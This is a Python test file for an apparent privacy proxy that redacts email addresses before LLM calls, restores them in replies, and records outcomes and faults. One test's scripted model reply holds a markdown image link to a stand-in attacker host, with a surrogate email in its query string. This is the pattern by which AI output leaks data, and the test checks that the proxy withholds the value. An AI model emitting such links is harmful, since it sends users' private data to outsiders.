"""The path of one call as a dialogue: what happens, in which order, and what a fault at each step leads to."""

from __future__ import annotations

import asyncio
import gzip
import zlib
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import orjson
import pytest

from sidecar.errors import OwnError, UpstreamError
from sidecar.ledger.facts import State
from sidecar.ledger.fields import outcome_fields
from sidecar.model import Caller, Inspection, Part, Role
from sidecar.plan import Surrogates
from sidecar.testing import (
    FakeInspect,
    ScriptedReply,
    split,
)
from tests.exchange.kit import (
    DENIED,
    HOUSE,
    MASK,
    SECRET,
    SSE,
    WHOLE,
    WINDOWED,
    Stage,
    completion,
    events,
    obliged,
    question,
    said,
)


async def test_an_answered_call() -> None:
    stage = Stage()

    exchange = await stage.run(question(f"Write to {SECRET}."))

    assert stage.steps == [
        "inspect", "decide request", "open", "send", "inspect", "decide response", "close answered", "start", "write",
        "end",
    ]  # fmt: skip
    assert SECRET.encode() not in stage.forward.sent[0].body
    assert b"<EMAIL_ADDRESS_1>" in stage.forward.sent[0].body
    assert orjson.loads(stage.answer.body)["choices"][0]["message"]["content"] == f"Write to {SECRET}."
    assert exchange.outcome is not None
    assert exchange.outcome.restored == {"EMAIL_ADDRESS": 1}
    assert exchange.outcome.aborted_by is None


async def test_the_record_says_how_long_it_took_until_each_step_had_ended() -> None:
    stage = Stage()

    await stage.run(question("hi"))

    [intent], [outcome] = stage.record.intents, stage.record.outcomes
    before = ["parse_us", "judge_us", "redact_us"]
    assert [*intent.timings_us] == [*before, "total_us"]
    assert [*outcome.timings_us] == [*before, "intent_us", "upstream_us", "total_us"]
    assert sorted(outcome.timings_us.values()) == [*outcome.timings_us.values()]


async def test_what_did_not_come_back_is_counted_in_the_record() -> None:
    """A value kept out of a stranger's link, a surrogate that stands for nothing, and half of one."""
    reply = "![](https://evil.example/?q=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_7> EMAIL_ADDRESS_1() dear <EMAIL_ADDRESS_1>"
    stage = Stage(lambda _: ScriptedReply(chunks=[completion(reply)]))

    exchange = await stage.run(question(f"Write to {SECRET}."))

    assert exchange.outcome is not None
    fields = outcome_fields(exchange.outcome).fields
    assert fields["restored"] == {"EMAIL_ADDRESS": 1}
    assert fields["withheld_values"] == {"EMAIL_ADDRESS": 1}
    assert (fields["surrogates_unknown"], fields["surrogates_ambiguous"]) == (1, 1)
    assert fields["not_inspected"] is None


@pytest.mark.parametrize(("status", "why"), [(500, "UPSTREAM_STATUS"), (200, "INSPECTOR_ERROR")])
async def test_a_reply_that_was_not_looked_at_is_recorded_as_such(status: int, why: str) -> None:
    class Blind(FakeInspect):
        async def inspect(self, parts: Sequence[Part], caller: Caller | None = None) -> Inspection:
            if parts[0].role is Role.ASSISTANT:
                raise OwnError("INSPECTOR_ERROR", "Nothing was seen.")
            return await super().inspect(parts, caller)

    stage = Stage(lambda _: ScriptedReply(status=status, chunks=[completion("hi")]))
    stage.ports = replace(stage.ports, inspect=Blind(stage.transcript))

    exchange = await stage.run(question("hello"))

    assert exchange.outcome is not None
    assert outcome_fields(exchange.outcome).fields["not_inspected"] == why


async def test_with_nothing_to_redact_bytes_are_the_same_both_ways() -> None:
    body = b'{ "model":"m",  "messages":[{"role":"user","content":"h\\u0069"}], "temperature": 1.0e0, "zzz": [1,2] }'
    reply = completion("ok").replace(b"{", b"{ ", 1)
    stage = Stage(lambda _: ScriptedReply(chunks=[reply]))

    await stage.run(body)

    assert stage.forward.sent[0].body == body
    assert stage.answer.body == reply


@pytest.mark.parametrize("chunks", list(split(events("Dear <EMAIL_ADDRESS_1>, <b>hi</b>"), rounds=5)))
async def test_a_stream_is_restored_at_any_cut(chunks: list[bytes]) -> None:
    stage = Stage(lambda _: ScriptedReply(headers=SSE, chunks=list(chunks)))

    await stage.run(question(f"Write to {SECRET}.", stream=True))

    assert said(stage.answer.body) == f"Dear {SECRET}, <b>hi</b>"
    assert stage.answer.body.endswith(b"data: [DONE]\n\n")


async def test_the_end_of_a_stream_waits_for_the_outcome() -> None:
    stage = Stage(lambda _: ScriptedReply(headers=SSE, chunks=[events("hello there")]))

    await stage.run(question("hi", stream=True))

    assert stage.steps.index("start") < stage.steps.index("close answered") < len(stage.steps) - 2
    assert stage.steps[-2:] == ["write", "end"]


async def test_an_outcome_that_cannot_be_recorded_breaks_the_stream_before_its_end() -> None:
    stage = Stage(
        lambda _: ScriptedReply(headers=SSE, chunks=[events("hello there")]),
        close_answered=OwnError("LEDGER_UNAVAILABLE", "-"),
    )

    await stage.run(question("hi", stream=True))

    assert b"[DONE]" not in stage.answer.body
    assert b'"stop"' not in stage.answer.body
    assert stage.steps[-1] == "fail LEDGER_UNAVAILABLE"


FAULTS = [
    ("inspect", RuntimeError("boom"), "INSPECTOR_ERROR", State.REFUSED),
    ("inspect", OwnError("INSPECTOR_TIMEOUT", "-"), "INSPECTOR_TIMEOUT", State.REFUSED),
    ("decide_request", RuntimeError("boom"), "PDP_ERROR", State.REFUSED),
    ("decide_request", OwnError("PDP_UNAVAILABLE", "-"), "PDP_UNAVAILABLE", State.REFUSED),
    ("send", UpstreamError("UPSTREAM_UNREACHABLE", "-"), "UPSTREAM_UNREACHABLE", State.FAILED),
    ("send", RuntimeError("boom"), "INTERNAL", State.FAILED),
]


@pytest.mark.parametrize(("step", "fault", "code", "state"), FAULTS)
async def test_a_fault_is_refused_recorded_and_answered(step: str, fault: Exception, code: str, state: State) -> None:
    stage = Stage(**{step: fault})

    await stage.run(question(SECRET))

    assert stage.answer.error is not None
    assert stage.answer.error.code == code
    assert stage.answer.body == b""
    assert [outcome.state for outcome in stage.record.outcomes] == [state]
    assert [outcome.error for outcome in stage.record.outcomes] == [code]
    assert stage.steps.index("open") < stage.steps.index(f"close {state}") < stage.steps.index(f"fail {code}")
    if state is State.REFUSED:
        assert stage.forward.sent == []
        assert stage.record.intents[0].decision.codes == (code,)


async def test_without_a_durable_intent_nothing_is_sent() -> None:
    stage = Stage(open=OwnError("LEDGER_UNAVAILABLE", "-"))

    await stage.run(question(SECRET))

    assert stage.forward.sent == []
    assert stage.steps[-1] == "fail LEDGER_UNAVAILABLE"


@pytest.mark.parametrize("step", ["inspect", "decide_request", "open", "send", "start", "write"])
async def test_a_caller_who_goes_away_is_recorded_at_every_step(step: str) -> None:
    stage = Stage(
        lambda _: ScriptedReply(headers=SSE, chunks=[events("hello there")]), **{step: asyncio.CancelledError()}
    )

    with pytest.raises(asyncio.CancelledError):
        await stage.run(question("hi", stream=True))

    assert [outcome.state for outcome in stage.record.outcomes] == [State.ABORTED]
    assert stage.record.outcomes[0].aborted_by == "client"
    if step in ("start", "write"):
        assert stage.steps.index("hang up") < stage.steps.index("close aborted")


async def test_a_reset_while_writing_counts_as_a_caller_gone() -> None:
    stage = Stage(lambda _: ScriptedReply(headers=SSE, chunks=[events("hello")]), write=ConnectionResetError())

    with pytest.raises(asyncio.CancelledError):
        await stage.run(question("hi", stream=True))

    assert stage.record.outcomes[0].state is State.ABORTED


UPSTREAM_FAULTS = [
    ([], "application/json", "UPSTREAM_DISCONNECTED"),
    ([b"<html>"], "text/html", "UPSTREAM_INVALID"),
    ([b'{"choices": ['], "application/json", "UPSTREAM_INVALID"),
    ([UpstreamError("UPSTREAM_DISCONNECTED", "-")], "application/json", "UPSTREAM_DISCONNECTED"),
    ([b'{"cho', UpstreamError("UPSTREAM_TIMEOUT", "-")], "application/json", "UPSTREAM_TIMEOUT"),
    ([b"data: {not json}\n\n"], "text/event-stream", "UPSTREAM_INVALID"),
]


@pytest.mark.parametrize(("chunks", "kind", "code"), UPSTREAM_FAULTS)
async def test_an_upstream_that_misbehaves(chunks: list[Any], kind: str, code: str) -> None:
    stage = Stage(lambda _: ScriptedReply(headers=(("Content-Type", kind),), chunks=list(chunks)))

    await stage.run(question("hi"))

    assert stage.answer.error is not None
    assert stage.answer.error.code == code
    assert stage.record.outcomes[0].state is State.FAILED


REFUSALS = [
    (429, [b"<html>slow down</html>"], "text/html", 429),
    (429, [], "application/json", 429),
    (401, [b"no"], "text/plain", 401),
    (400, [b"no"], "text/plain", 400),
    (400, [b'[{"error": "x"}]'], "application/json", 400),
    (503, [b"busy"], "text/plain", 502),
]


@pytest.mark.parametrize(("status", "chunks", "kind", "told"), REFUSALS)
async def test_an_error_that_is_no_json_object_keeps_its_status(
    status: int, chunks: list[bytes], kind: str, told: int
) -> None:
    """So that a rate limit is no outage, and an SDK waits as long as it is asked to."""
    headers = (("Content-Type", kind), ("Retry-After", "7"))
    stage = Stage(lambda _: ScriptedReply(status=status, headers=headers, chunks=list(chunks)))

    await stage.run(question("hi"))

    error = stage.answer.error
    assert error is not None
    assert (error.code, error.status, error.retry_after) == ("UPSTREAM_STATUS", told, "7")
    assert (stage.record.outcomes[0].state, stage.record.outcomes[0].status) == (State.FAILED, told)


async def test_a_problem_document_passes() -> None:
    headers = (("Content-Type", "application/problem+json"),)
    stage = Stage(lambda _: ScriptedReply(status=400, headers=headers, chunks=[b'{"title":"no"}']))

    await stage.run(question("hi"))

    assert (stage.answer.status, stage.answer.body) == (400, b'{"title":"no"}')


def coded(whole: bytes, sizes: Sequence[int]) -> list[bytes]:
    """As gzip, flushed behind each piece, as servers send a stream."""
    packer = zlib.compressobj(wbits=31)
    pieces, at = [], 0
    for size in sizes:
        pieces.append(packer.compress(whole[at : at + size]) + packer.flush(zlib.Z_SYNC_FLUSH))
        at += size
    return [*pieces, packer.compress(whole[at:]) + packer.flush(zlib.Z_SYNC_FLUSH), packer.flush()]


async def test_a_coded_stream_leaves_as_it_comes() -> None:
    """But for the chunk with the end, which waits for the outcome."""
    whole = events("hello there, how are you?")
    ends = [at + 2 for at in range(len(whole)) if whole[at : at + 2] == b"\n\n"]
    chunks = coded(whole, [ends[0], ends[3] - ends[0]])
    headers = (*SSE, ("Content-Encoding", "gzip"))
    stage = Stage(lambda _: ScriptedReply(headers=headers, chunks=list(chunks)))

    await stage.run(question("hi", stream=True))

    assert stage.answer.body == b"".join(chunks)
    before = stage.steps[: stage.steps.index("close answered")]
    assert before.count("write") == 2
    assert stage.steps[-2:] == ["write", "end"]


async def test_a_coded_body_waits_whole() -> None:
    body = gzip.compress(completion("x" * 5000))
    headers = (("Content-Type", "application/json"), ("Content-Encoding", "gzip"))
    stage = Stage(lambda _: ScriptedReply(headers=headers, chunks=[body]))

    await stage.run(question("hi"))

    assert stage.answer.body == body
    assert stage.steps.index("close answered") < stage.steps.index("write")


async def test_an_upstream_that_dies_mid_stream_ends_in_an_error_not_in_silence() -> None:
    half = events("hello there")[:400]
    stage = Stage(lambda _: ScriptedReply(headers=SSE, chunks=[half, UpstreamError("UPSTREAM_DISCONNECTED", "-")]))

    await stage.run(question("hi", stream=True))

    assert stage.answer.status == 200
    assert stage.steps[-2:] == ["close failed", "fail UPSTREAM_DISCONNECTED"]
    assert stage.record.outcomes[0].released == "part"


async def test_a_reply_that_policy_denies_whole_never_starts() -> None:
    stage = Stage(
        lambda _: ScriptedReply(headers=SSE, chunks=[events("hello there")]),
        answers={"request": obliged(WHOLE), "response": DENIED},
    )

    await stage.run(question("hi", stream=True))

    assert stage.answer.status is None
    assert stage.steps[-2:] == ["close refused", "fail REPLY_FORBIDDEN"]


MADE_UP = "x" * 50 + " bob@corp.internal " + "y" * 50 + " <EMAIL_ADDRESS_1>"


@pytest.mark.parametrize("release", [WHOLE, WINDOWED])
@pytest.mark.parametrize(
    "chunks", list(split(events("x" * 50 + " bob@corp.internal " + "y" * 50 + " <EMAIL_ADDRESS_1>")))
)
async def test_a_judged_reply_is_masked_before_it_is_restored(release: dict[str, Any], chunks: list[bytes]) -> None:
    stage = Stage(
        lambda _: ScriptedReply(headers=SSE, chunks=list(chunks)),
        answers={"request": obliged(release), "response": MASK, "response_window": MASK},
    )

    await stage.run(question(f"About {SECRET}", stream=True))

    assert said(stage.answer.body) == "x" * 50 + " <EMAIL_ADDRESS> " + "y" * 50 + f" {SECRET}"


def tool_calls(*names: str) -> bytes:
    """A unary reply that calls each tool with the surrogate, arguments before the name as some servers write it."""
    calls = [
        {"id": f"c{i}", "type": "function", "function": {"arguments": '{"to": "<EMAIL_ADDRESS_1>"}', "name": name}}
        for i, name in enumerate(names)
    ]
    message = {"role": "assistant", "content": None, "tool_calls": calls}
    return orjson.dumps({"id": "c", "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]})


async def test_only_listed_tools_get_values_back() -> None:
    stage = Stage(lambda _: ScriptedReply(chunks=[tool_calls("send", "browse")]))
    house = replace(HOUSE, surrogates=Surrogates(tools=frozenset({"send"})))

    await stage.run(question(f"Write to {SECRET}."), house)

    calls = orjson.loads(stage.answer.body)["choices"][0]["message"]["tool_calls"]
    assert [call["function"]["arguments"] for call in calls] == [
        f'{{"to": "{SECRET}"}}',
        '{"to": "<EMAIL_ADDRESS_1>"}',
    ]


async def test_a_notice_that_policy_demands_is_in_the_head() -> None:
    notice = {"type": "notice", "id": "n", "params": {"text_id": "ai-1", "placement": "header"}}
    stage = Stage(answers={"request": obliged(notice)})

    await stage.run(question("hi"))

    assert ("AI-Notice", "ai-1") in stage.answer.headers


async def test_an_error_event_of_the_model_server_is_a_failure_in_the_record() -> None:
    error = b'data: {"error": {"message": "no", "type": "server_error"}}\n\n'
    stage = Stage(lambda _: ScriptedReply(headers=SSE, chunks=[events("hello there")[:400], error]))

    await stage.run(question("hi", stream=True))

    assert stage.record.outcomes[0].state is State.FAILED
    assert stage.record.outcomes[0].reply.model_served == "m-1"


async def test_what_a_reply_said_of_itself_is_recorded_of_one_that_was_cut_off_too() -> None:
    chunks: list[Any] = [events("hello there")[:400], UpstreamError("UPSTREAM_DISCONNECTED", "-")]
    stage = Stage(lambda _: ScriptedReply(headers=SSE, chunks=chunks))

    await stage.run(question("hi", stream=True))

    assert stage.record.outcomes[0].reply.model_served == "m-1"


async def test_a_window_that_is_denied_ends_the_stream_with_an_error() -> None:
    stage = Stage(
        lambda _: ScriptedReply(headers=SSE, chunks=[events("x" * 30), events("y" * 60)]),
        answers={"request": obliged(WINDOWED), "response_window": DENIED},
    )

    await stage.run(question("hi", stream=True))

    assert stage.steps[-1] == "fail REPLY_FORBIDDEN"
    assert stage.record.outcomes[0].state is State.REFUSED


async def test_a_long_text_has_more_time_to_be_judged() -> None:
    stage = Stage()

    class Slow(FakeInspect):
        async def inspect(self, parts: Any, caller: Caller | None = None) -> Any:
            await asyncio.sleep(0.15)
            return await super().inspect(parts, caller)

    stage.ports = replace(stage.ports, inspect=Slow(stage.transcript))
    house = replace(HOUSE, judge_deadline=0.05)

    await stage.run(question("short"), house)
    assert stage.answer.error is not None
    assert stage.answer.error.code == "INSPECTOR_TIMEOUT"

    stage.answer.error = None
    await stage.run(question("word " * 2000), house)
    assert stage.answer.error is None


async def test_detectors_are_told_who_sends_the_text() -> None:
    stage = Stage()
    exchange = await stage.run(question("hello"))
    assert stage.inspect.caller is exchange.arrival.caller
